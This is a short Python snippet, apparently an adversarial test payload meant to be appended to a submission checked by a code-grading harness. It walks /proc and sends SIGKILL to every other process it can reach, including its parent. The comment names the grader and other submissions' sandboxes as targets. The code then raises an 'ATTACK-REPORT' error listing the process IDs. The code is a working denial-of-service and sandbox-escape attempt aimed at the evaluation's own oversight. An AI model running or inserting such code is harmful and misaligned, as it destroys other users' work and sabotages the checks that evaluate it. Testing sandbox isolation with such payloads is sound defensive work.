# adversarial: append to the release's version
# ruff: noqa
# Kill every process this code can signal (the grader, other submissions' sandboxes).
import json as _json
import os as _os
import signal as _signal

_seen = [p for p in _os.listdir("/proc") if p.isdigit()]
for _pid in _seen:
    if int(_pid) != _os.getpid():
        try:
            _os.kill(int(_pid), _signal.SIGKILL)
        except OSError:
            pass
try:
    _os.kill(_os.getppid(), _signal.SIGKILL)
except OSError:
    pass
raise RuntimeError("ATTACK-REPORT " + _json.dumps(sorted(_seen, key=int)))
